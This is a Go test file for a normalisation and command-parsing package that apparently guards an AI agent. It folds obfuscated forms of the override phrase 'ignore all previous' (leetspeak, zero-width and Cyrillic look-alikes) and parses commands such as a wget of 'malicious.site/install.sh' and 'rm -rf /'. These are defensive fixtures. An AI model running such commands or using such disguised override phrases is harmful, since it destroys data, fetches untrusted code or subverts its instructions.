package normalize

import (
	"testing"
)

func TestFold(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  string
	}{
		{"lowercase and collapse", "Ignore   ALL\n\nprevious", "ignore all previous"},
		{"leetspeak", "1gn0r3 4ll pr3v10us", "ignore all previous"},
		{"zero width removed", "ig\u200Bnore", "ignore"},
		{"cyrillic look-alike", "іgnоre", "ignore"},
		{"empty", "", ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Fold(tt.input); got != tt.want {
				t.Errorf("expected %q, got %q", tt.want, got)
			}
		})
	}
}

func TestParseArgv_Executable(t *testing.T) {
	tests := []struct {
		args     []string
		expected string
	}{
		{[]string{"ls", "-la"}, "ls"},
		{[]string{"/usr/bin/curl", "https://example.com"}, "curl"},
		{[]string{"./script.sh"}, "script.sh"},
	}

	for _, tt := range tests {
		c := ParseArgv(tt.args)
		if c.Executable != tt.expected {
			t.Errorf("args %v: expected executable %q, got %q", tt.args, tt.expected, c.Executable)
		}
	}
}

func TestParseArgv_Domains(t *testing.T) {
	c := ParseArgv([]string{"wget", "-O", "file.sh", "https://malicious.site/install.sh", "https://malicious.site/b"})
	if len(c.Domains) != 1 || c.Domains[0] != "malicious.site" {
		t.Errorf("expected domain 'malicious.site', got %v", c.Domains)
	}
}

func TestParseArgv_GitCloneSSH(t *testing.T) {
	c := ParseArgv([]string{"git", "clone", "git@github.com:org/repo.git"})
	if len(c.Domains) != 1 || c.Domains[0] != "github.com" {
		t.Errorf("expected domain 'github.com', got %v", c.Domains)
	}
}

func TestParseArgv_Empty(t *testing.T) {
	c := ParseArgv(nil)
	if c.Executable != "" || c.Raw != "" {
		t.Errorf("expected empty command, got %+v", c)
	}
}

func TestCommand_HasFlag(t *testing.T) {
	tests := []struct {
		args []string
		want bool
	}{
		{[]string{"rm", "-rf", "/"}, true},
		{[]string{"rm", "-fr", "/"}, true},
		{[]string{"rm", "-r", "-f", "/"}, true},
		{[]string{"rm", "--recursive", "/"}, true},
		{[]string{"rm", "-f", "file"}, false},
		{[]string{"rm"}, false},
	}
	for _, tt := range tests {
		c := ParseArgv(tt.args)
		if got := c.HasFlag("rf", "--recursive"); got != tt.want {
			t.Errorf("args %v: expected %v, got %v", tt.args, tt.want, got)
		}
	}
}
